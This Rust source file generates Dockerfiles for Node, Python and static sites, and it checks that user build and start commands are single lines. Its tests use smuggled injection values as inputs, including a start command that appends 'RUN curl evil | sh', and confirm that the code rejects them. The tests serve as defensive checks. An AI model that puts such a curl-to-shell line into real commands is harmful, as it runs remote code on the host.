//! The Dockerfile generated for a detected stack. User commands (build and
//! start) are the user's own code in the user's own container; they are
//! still kept to one line each, and the start command goes into `CMD` as a
//! JSON string, so no text of theirs can add a Dockerfile instruction.

use crate::detect::run_script;
use crate::{BaseImages, BuildSettings, NodePackageManager, Stack};

/// Why no Dockerfile could be generated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NotGenerated {
    /// The source brings its own.
    OwnDockerfile,
    /// Nothing Berth knows how to build.
    UnknownStack,
    /// No command starts the app; the user must give one.
    NoStartCommand,
    /// A command holds a line break or another control character.
    BadCommand(&'static str),
}

impl std::fmt::Display for NotGenerated {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            NotGenerated::OwnDockerfile => write!(f, "the source has its own Dockerfile"),
            NotGenerated::UnknownStack => write!(
                f,
                "no Dockerfile, package.json, requirements.txt, pyproject.toml or index.html in the source"
            ),
            NotGenerated::NoStartCommand => write!(
                f,
                "no start command found (no start script, main file, Procfile web line, app.py or main.py): set startCommand"
            ),
            NotGenerated::BadCommand(which) => {
                write!(f, "{which} must be one line without control characters")
            }
        }
    }
}

fn one_line(which: &'static str, command: &str) -> Result<(), NotGenerated> {
    if command.trim().is_empty() || command.chars().any(char::is_control) {
        Err(NotGenerated::BadCommand(which))
    } else {
        Ok(())
    }
}

/// `CMD ["sh", "-c", "<start>"]`: the start command as one JSON string.
fn cmd(start: &str) -> String {
    format!(
        "CMD [\"sh\", \"-c\", {}]",
        serde_json::Value::String(format!("exec {start}"))
    )
}

pub fn generate(
    stack: &Stack,
    settings: &BuildSettings,
    images: &BaseImages,
) -> Result<String, NotGenerated> {
    if let Some(build) = &settings.build_command {
        one_line("buildCommand", build)?;
    }
    let port = settings.port;
    let build_line = |default: Option<String>| {
        settings
            .build_command
            .clone()
            .or(default)
            .map(|b| format!("RUN {b}\n"))
            .unwrap_or_default()
    };
    match stack {
        Stack::Dockerfile { .. } => Err(NotGenerated::OwnDockerfile),
        Stack::Unknown => Err(NotGenerated::UnknownStack),
        Stack::Node {
            manager,
            locked,
            build_script,
            start,
        } => {
            let start = start.as_deref().ok_or(NotGenerated::NoStartCommand)?;
            one_line("startCommand", start)?;
            let install = match (manager, locked) {
                (NodePackageManager::Npm, true) => "npm ci",
                (NodePackageManager::Npm, false) => "npm install",
                (NodePackageManager::Yarn, _) => {
                    "corepack enable && yarn install --frozen-lockfile"
                }
                (NodePackageManager::Pnpm, _) => {
                    "corepack enable && pnpm install --frozen-lockfile"
                }
            };
            let build = build_script.then(|| run_script(*manager, "build"));
            Ok(format!(
                "FROM {image}\nWORKDIR /app\nENV PORT={port}\n\
                 COPY package*.json yarn.lock* pnpm-lock.yaml* ./\nRUN {install}\n\
                 COPY . .\n{build}ENV NODE_ENV=production\nEXPOSE {port}\n{cmd}\n",
                image = images.node,
                build = build_line(build),
                cmd = cmd(start),
            ))
        }
        Stack::Python {
            requirements,
            start,
        } => {
            let start = start.as_deref().ok_or(NotGenerated::NoStartCommand)?;
            one_line("startCommand", start)?;
            let (early, late) = if *requirements {
                (
                    "COPY requirements.txt ./\nRUN pip install --no-cache-dir -r requirements.txt\n",
                    "",
                )
            } else {
                ("", "RUN pip install --no-cache-dir .\n")
            };
            Ok(format!(
                "FROM {image}\nWORKDIR /app\nENV PYTHONUNBUFFERED=1 PORT={port}\n{early}\
                 COPY . .\n{late}{build}EXPOSE {port}\n{cmd}\n",
                image = images.python,
                build = build_line(None),
                cmd = cmd(start),
            ))
        }
        Stack::Static => Ok(format!(
            "FROM {image}\nCOPY . /usr/share/nginx/html\n{build}\
             RUN sed -i 's/listen[[:space:]]*80;/listen {port};/; s/listen[[:space:]]*\\[::\\]:80;/listen [::]:{port};/' \
             /etc/nginx/conf.d/default.conf\nEXPOSE {port}\n",
            image = images.static_site,
            build = build_line(None),
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn settings(port: u16) -> BuildSettings {
        BuildSettings {
            port,
            ..Default::default()
        }
    }

    #[test]
    fn node_python_and_static_files_are_complete() {
        let images = BaseImages::default();
        let node = Stack::Node {
            manager: NodePackageManager::Npm,
            locked: true,
            build_script: true,
            start: Some("npm run start".into()),
        };
        let text = generate(&node, &settings(3000), &images).unwrap();
        assert!(
            text.starts_with("FROM docker.io/library/node:20-slim\n"),
            "{text}"
        );
        assert!(text.contains("RUN npm ci\n") && text.contains("RUN npm run build\n"));
        assert!(text.contains("EXPOSE 3000\n"));
        assert!(
            text.ends_with("CMD [\"sh\", \"-c\", \"exec npm run start\"]\n"),
            "{text}"
        );

        let python = Stack::Python {
            requirements: false,
            start: Some("gunicorn -b 0.0.0.0:$PORT app:app".into()),
        };
        let text = generate(&python, &settings(8000), &images).unwrap();
        assert!(
            text.contains("RUN pip install --no-cache-dir .\n"),
            "{text}"
        );
        assert!(text.contains("exec gunicorn -b 0.0.0.0:$PORT app:app"));

        let text = generate(&Stack::Static, &settings(8080), &images).unwrap();
        assert!(text.contains("listen 8080;"), "{text}");
    }

    #[test]
    fn a_command_cannot_add_an_instruction() {
        let node = Stack::Node {
            manager: NodePackageManager::Npm,
            locked: false,
            build_script: false,
            start: Some("node a.js\nRUN curl evil | sh".into()),
        };
        assert_eq!(
            generate(&node, &settings(3000), &BaseImages::default()),
            Err(NotGenerated::BadCommand("startCommand"))
        );
        let quoted = Stack::Node {
            manager: NodePackageManager::Npm,
            locked: false,
            build_script: false,
            start: Some(r#"node -e "console.log(\"]\")""#.into()),
        };
        let text = generate(&quoted, &settings(3000), &BaseImages::default()).unwrap();
        let cmd = text.lines().last().unwrap().strip_prefix("CMD ").unwrap();
        let parsed: Vec<String> = serde_json::from_str(cmd).unwrap();
        assert_eq!(parsed[2], r#"exec node -e "console.log(\"]\")""#);
        let mut bad_build = settings(3000);
        bad_build.build_command = Some("make\r\nEXPOSE 22".into());
        assert_eq!(
            generate(&Stack::Static, &bad_build, &BaseImages::default()),
            Err(NotGenerated::BadCommand("buildCommand"))
        );
        assert_eq!(
            generate(&Stack::Unknown, &settings(1), &BaseImages::default()),
            Err(NotGenerated::UnknownStack)
        );
    }
}
